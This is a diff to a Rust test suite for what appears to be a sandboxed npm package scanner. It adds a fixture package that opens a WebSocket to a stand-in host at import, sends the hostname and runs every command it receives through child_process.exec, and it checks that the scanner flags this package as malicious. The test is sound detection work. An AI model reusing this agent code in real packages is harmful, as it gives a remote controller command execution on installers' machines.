@@ -986,6 +986,34 @@ fn binding_gyp_commands_run_in_the_sandbox_with_the_local_node_headers() {
     assert!(ran, "the gyp command expansion did not run: {commands:#?}");
 }
 
+/// A WebSocket client written out (the test registry has no `ws`): opens
+/// wss://relay-sync.example/agent at import, sends `hello()` and hands each text message
+/// to `handle`.
+const WEBSOCKET_CLIENT: &str = r#"const https = require('https');
+const crypto = require('crypto');
+function frame(text) {
+  const p = Buffer.from(text);
+  const mask = crypto.randomBytes(4);
+  const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0xfe, p.length >> 8, p.length & 255]);
+  return Buffer.concat([head, mask, Buffer.from(p.map((b, i) => b ^ mask[i % 4]))]);
+}
+const req = https.request({ host: 'relay-sync.example', path: '/agent', headers: {
+  Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13',
+  'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64') } });
+req.on('upgrade', (res, socket, head) => {
+  socket.write(frame(hello()));
+  const read = (data) => {
+    if (data.length < 2 || (data[0] & 0x0f) !== 1) return;
+    handle(data.slice(2, 2 + (data[1] & 0x7f)).toString(), (out) => socket.write(frame(out)));
+  };
+  if (head.length) read(head);
+  socket.on('data', read);
+  socket.on('error', () => {});
+});
+req.on('error', () => {});
+req.end();
+"#;
+
 /// `main` connects to its "controller" at import and runs what it is sent; the second
 /// package only logs what it receives.
 const C2_CLIENT: &str = r#"const net = require('net');
@@ -1051,6 +1079,61 @@ fn a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe() {
             .any(|c| c["kind"] == "probed" && c["port"] == 4431),
         "the silent client was not probed: {connections:#?}"
     );
+    let probes = phase_records(&honest["dynamic"], "/probes");
+    assert!(
+        !probes.is_empty() && probes.iter().all(|p| p["triggered"] == false),
+        "{probes:#?}"
+    );
+}
+
+#[test]
+fn a_websocket_agent_is_sent_the_probe_and_caught_running_it() {
+    if !sandbox_tests_enabled("a_websocket_agent_is_sent_the_probe_and_caught_running_it") {
+        return;
+    }
+    let registry = TestRegistry::start();
+    let agent = format!(
+        "{WEBSOCKET_CLIENT}function hello() {{ return JSON.stringify({{ agent: require('os').hostname() }}); }}\n\
+         function handle(command, reply) {{ require('child_process').exec(command, (e, out) => reply(String(out))); }}\n"
+    );
+    let logger = format!(
+        "{WEBSOCKET_CLIENT}function hello() {{ return JSON.stringify({{ subscribe: 'builds' }}); }}\n\
+         function handle(message, reply) {{ console.log('event', message.length); }}\n"
+    );
+    publish_modules(
+        &registry,
+        &[("relay-agent", &agent), ("live-events", &logger)],
+    );
+    let scan = |spec: &str| scan_dynamic(&registry, &["--import-timeout", "8"], spec);
+    let report = scan("relay-agent@1.0.0");
+    let rules = rule_ids(&report);
+    for rule in ["DSCA1012", "DSCA1009"] {
+        assert!(
+            rules.iter().any(|r| r == rule),
+            "{rule} missing: {rules:?}\n{:#}",
+            report["dynamic"]
+        );
+    }
+    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
+    // The upgrade was answered, and the agent's own first message (its host name, a
+    // bait value) and the probe's output came back unmasked.
+    let requests = phase_records(&report["dynamic"], "/http");
+    assert!(
+        requests
+            .iter()
+            .any(|r| r["url"] == "https://relay-sync.example/agent" && r["status"] == 101),
+        "{requests:#?}"
+    );
+    let channels = texts(
+        &phase_records(&report["dynamic"], "/honeytokens/exfiltrations"),
+        "channel",
+    );
+    assert!(channels.iter().any(|c| c == "websocket"), "{channels:?}");
+
+    let honest = scan("live-events@1.0.0");
+    let rules = rule_ids(&honest);
+    assert!(!rules.iter().any(|r| r == "DSCA1012"), "{rules:?}");
+    assert_ne!(honest["verdict"]["level"], "malicious", "{rules:?}");
     let probes = phase_records(&honest["dynamic"], "/probes");
     assert!(
         !probes.is_empty() && probes.iter().all(|p| p["triggered"] == false),
